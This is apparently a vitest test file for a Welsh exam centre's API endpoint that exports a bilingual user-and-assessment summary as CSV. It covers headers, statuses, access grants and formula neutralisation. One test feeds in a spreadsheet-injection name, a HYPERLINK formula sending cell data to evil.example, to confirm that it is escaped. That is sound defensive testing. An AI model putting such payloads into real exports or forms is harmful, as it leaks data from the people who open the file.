import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { accountGrants } from '../../../src/db/schema/index.js';
import { createHarness, type Harness } from '../../support/harness.js';
import { addUser } from './support.js';

const SUMMARY = '/api/v1/centres/68123/users/summary.csv';

describe('GET /centres/:number/users/summary.csv (the "User Summary" download)', () => {
  let h: Harness;
  let inv: { id: number; token: string };

  beforeEach(async () => {
    h = await createHarness();
    inv = await addUser(h, {
      email: 'goruchwyliwr@ysgolgwyr.cymru',
      firstName: 'Elin',
      lastName: 'Parri',
      hubRole: 'INV',
    });
    await h.call('PUT', `/api/v1/centres/68123/users/${inv.id}/hidden-assessments`, {
      token: h.tokens.eoCy,
      body: { hidden: ['INV-ONSCREEN', 'INV-ACCESS', 'INV-EMERGENCY'] },
    });
    const attempt = (code: string, mark: number, out_of: number) =>
      h.call('POST', `/api/v1/centres/68123/users/${inv.id}/assessments/${code}/attempts`, {
        token: inv.token,
        body: { mark, out_of },
      });
    await attempt('INV-MALPRACTICE', 10, 20);
    h.clock.advance(90 * 60_000);
    await attempt('INV-MALPRACTICE', 19, 20);
    await attempt('INV-INTRO', 9, 10);
  });
  afterEach(() => h.close());

  const download = (lang: string, token = h.tokens.eoCy) =>
    h.call('GET', `${SUMMARY}?lang=${lang}`, { token });
  const rowsOf = (text: string) =>
    parse(text, { columns: true, bom: true, skip_empty_lines: true }) as Record<string, string>[];

  it('is a UTF-8 CSV attachment with a byte-order mark, one row per account and visible assessment', async () => {
    const res = await download('en');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="user-summary-68123.csv"');
    const raw = await h.app.request(`${SUMMARY}?lang=en`, {
      headers: { authorization: `Bearer ${h.tokens.eoCy}` },
    });
    expect([...new Uint8Array(await raw.arrayBuffer()).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);

    const rows = rowsOf(res.text);
    const elin = rows.filter((r) => r.Email === 'goruchwyliwr@ysgolgwyr.cymru');
    expect(elin.map((r) => r['Assessment code'])).toEqual(['INV-INTRO', 'INV-MALPRACTICE']);
    expect(elin[1]).toEqual({
      'First name': 'Elin',
      'Last name': 'Parri',
      Email: 'goruchwyliwr@ysgolgwyr.cymru',
      'Account type': 'User',
      'Hub role': 'INV',
      'Assessment code': 'INV-MALPRACTICE',
      Assessment: 'Malpractice in the exam room',
      Status: 'Passed',
      'Sections passed': '1',
      Sections: '1',
      'Best mark': '19',
      'Out of': '20',
      'Failed attempts': '1',
      'Last attempt (UTC)': '2026-11-23 10:30',
      Certificate: `/api/v1/centres/68123/users/${inv.id}/assessments/INV-MALPRACTICE/certificate.pdf`,
    });
    expect(elin[0]).toMatchObject({
      Certificate: '',
      Status: 'In progress',
      'Sections passed': '1',
      Sections: '3',
      'Best mark': '9',
    });

    // The EO has no Hub role, so sees the whole catalogue, all not started.
    const eo = rows.filter((r) => r.Email === 'arholiadau@ysgolgwyr.cymru');
    expect(eo).toHaveLength(9);
    expect(new Set(eo.map((r) => r.Status))).toEqual(new Set(['Not started']));
    expect(eo[0]).toMatchObject({
      'Account type': 'Exams Officer',
      'Best mark': '',
      'Last attempt (UTC)': '',
    });
    // Only this centre's accounts.
    expect(rows.every((r) => r.Email?.endsWith('ysgolgwyr.cymru'))).toBe(true);
  });

  it('has Welsh headers, titles and statuses with ?lang=cy', async () => {
    const res = await download('cy');
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="crynodeb-defnyddwyr-68123.csv"',
    );
    const rows = rowsOf(res.text);
    const elin = rows.filter((r) => r['E-bost'] === 'goruchwyliwr@ysgolgwyr.cymru');
    expect(elin[0]).toMatchObject({
      'Enw cyntaf': 'Elin',
      'Math o gyfrif': 'Defnyddiwr',
      'Rôl yn yr Hyb': 'INV',
      Asesiad: 'Cyflwyniad i oruchwylio',
      Statws: 'Ar y gweill',
      'Ymdrechion aflwyddiannus': '0',
    });
    expect(elin[1]).toMatchObject({ Statws: 'Wedi pasio', 'Marc gorau': '19', 'Allan o': '20' });
  });

  it('neutralises cells a spreadsheet would run as a formula', async () => {
    await addUser(h, {
      email: 'drwg@ysgolgwyr.cymru',
      firstName: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
      lastName: '+SUM(1,2)',
      hubRole: 'INV',
    });
    const res = await download('en');
    const row = rowsOf(res.text).find((r) => r.Email === 'drwg@ysgolgwyr.cymru');
    expect(row?.['First name']).toBe(`'=HYPERLINK("https://evil.example/?x="&A1,"Click")`);
    expect(row?.['Last name']).toBe("'+SUM(1,2)");
    for (const r of rowsOf(res.text)) {
      for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('lists an invigilator with everything hidden once, with no assessment', async () => {
    await h.call('PUT', `/api/v1/centres/68123/users/${inv.id}/hidden-assessments`, {
      token: h.tokens.eoCy,
      body: { hidden: ['INV-INTRO', 'INV-ONSCREEN', 'INV-ACCESS', 'INV-MALPRACTICE', 'INV-EMERGENCY'] },
    });
    const rows = rowsOf((await download('en')).text).filter(
      (r) => r.Email === 'goruchwyliwr@ysgolgwyr.cymru',
    );
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ 'Hub role': 'INV', 'Assessment code': '', Status: '' });
  });

  it('is open to a user holding user_accounts, not to a plain user', async () => {
    expect((await download('en', inv.token)).status).toBe(403);
    await h.ctx.db
      .insert(accountGrants)
      .values({ accountId: inv.id, grant: 'user_accounts', createdAt: h.clock.now() });
    expect((await download('en', inv.token)).status).toBe(200);
    const other = await h.call('GET', '/api/v1/centres/68123/users/1/assessments', { token: inv.token });
    expect(other.status).toBe(200);
  });
});
